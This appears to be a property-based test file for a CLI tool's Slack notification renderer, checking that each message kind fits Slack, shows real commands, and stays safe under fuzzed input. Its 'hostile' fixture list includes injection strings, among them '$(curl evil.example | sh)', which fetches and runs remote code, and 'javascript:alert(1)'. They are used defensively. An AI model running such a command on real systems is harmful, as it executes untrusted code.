import { assert } from 'chai';
import type { Command } from 'commander';
import * as fc from 'fast-check';
import { gallerySamples } from '../../build/gallery-samples.ts';
import { createProgram } from '../../cli/program.ts';
import type { Telling } from '../../notifier/announcement.ts';
import { blockKitHtml } from '../../notifier/block-html.ts';
import { renderTelling } from '../../notifier/render-telling.ts';
import type { SlackMessage } from '../../notifier/slack-message.ts';
import { renderPlain } from '../../notifier/slack-text.ts';
import { printed } from '../support/cli.ts';
import { assertFitsSlack, mrkdwnTexts } from './assert-fits-slack.ts';
import { headingOf } from './message-parts.ts';
import { replaced } from './replaced.ts';

/** What a notice of the kind cannot be without, of what others may lack. */
const needed: Readonly<Record<string, readonly string[]>> = {
  'dead-letter': ['failure'],
  'exemptions-unreadable': ['failure'],
  restored: ['actor', 'actionId'],
};
const optional = new Set(['actor', 'evidence', 'actionId', 'failure', 'remediator', 'exemptUntil']);

/** Without all that need not be there, and with empty lists. */
function smallest(telling: Telling): Telling {
  if (telling.kind !== 'notice') return telling;
  const { notice } = telling;
  const kept = Object.entries(notice)
    .filter(([key]) => !optional.has(key) || needed[notice.kind]?.includes(key) === true)
    .map(([key, value]) => [key, Array.isArray(value) ? [] : value]);
  return { kind: 'notice', notice: Object.fromEntries(kept) };
}

const hostile = [
  '<!channel>',
  '<@U0123456>',
  '<https://evil.example|sg-1>',
  '&lt;!here&gt;',
  '```\n<!everyone>\n```',
  '@channel #general :tada: *bold*',
  '$(curl evil.example | sh)',
  '--all',
  'javascript:alert(1)',
  'two\nlines\u202Eback',
];

/** What is shown as a command. */
function commandsIn(message: SlackMessage): string[] {
  return mrkdwnTexts(message).flatMap((text) => [...text.matchAll(/`(configmend [^`]+)`/g)].map(([, one = '']) => one));
}

function assertIsCommand(program: Command, shown: string): void {
  let at = program;
  for (const word of shown.split(' ').slice(1)) {
    const next = at.commands.find((command) => command.name() === word);
    if (next !== undefined) at = next;
    else if (word.startsWith('--'))
      assert.include(
        at.options.map(({ long }) => long),
        word,
        shown,
      );
    else assert.isTrue(at.options.length > 0 || at.registeredArguments.length > 0, shown);
  }
  assert.notEqual(at, program, shown);
}

describe('every kind of message in Slack', () => {
  const program = createProgram(printed());

  for (const [kind, { telling }] of Object.entries(gallerySamples)) {
    describe(kind, () => {
      const message = renderTelling(telling);

      it('has a heading with an emoji, a text for notifications, and fits', () => {
        assertFitsSlack(message);
        assert.match(headingOf(message), /^:[a-z_]+: \S/u);
        assert.isAtLeast(message.text.length, 20);
        assert.isAtMost(message.text.length, 300);
      });

      it('can be read on a phone', () => {
        const { length } = renderPlain(message).split('\n');

        assert.isAtMost(length, kind.endsWith('-burst') ? 45 : 32);
      });

      it('says where', () => {
        if (kind === 'unreadable') return;
        assert.match(renderPlain(message), /\d{12} +[a-z-]+-\d/u);
      });

      it('says why it matters, and what to do or to undo', () => {
        const text = renderPlain(message);

        assert.match(text, kind === 'alarm' ? /What it means: / : kind === 'digest' ? /Next: / : /Why it matters: /u);
        assert.match(
          text,
          /Next: |To undo |Nothing was changed, so |Nothing is changed before|What to check and to do/u,
        );
      });

      it('shows only commands that there are', () => {
        for (const command of commandsIn(message)) assertIsCommand(program, command);
      });

      it('does without all that may be missing', () => {
        const small = renderTelling(smallest(telling));

        assertFitsSlack(small);
        assert.equal(headingOf(small), headingOf(message));
        assert.notMatch(renderPlain(small), /undefined|null|NaN/u);
      });

      it('fits, and alerts and links nobody, whatever is in it and however much', () => {
        const text = fc.oneof(
          fc.constantFrom(...hostile, '<&>'.repeat(9000), '😀'.repeat(5000)),
          fc.string({ unit: 'binary', maxLength: 60 }),
        );
        fc.assert(
          fc.property(fc.array(text, { minLength: 1, maxLength: 12 }), fc.constantFrom(1, 3, 9), (texts, times) => {
            let at = 0;
            const next = () => texts[(at += 1) % texts.length] ?? '';
            const poisoned = renderTelling(replaced(telling, next, times));

            assertFitsSlack(poisoned);
            for (const command of commandsIn(poisoned)) assert.match(command, /^configmend [\w .:/-]+$/u);
            assert.notMatch(blockKitHtml(poisoned), /<(?:script|img|iframe)|href="(?!https:)/u);
          }),
          { numRuns: 25 },
        );
      });
    });
  }
});
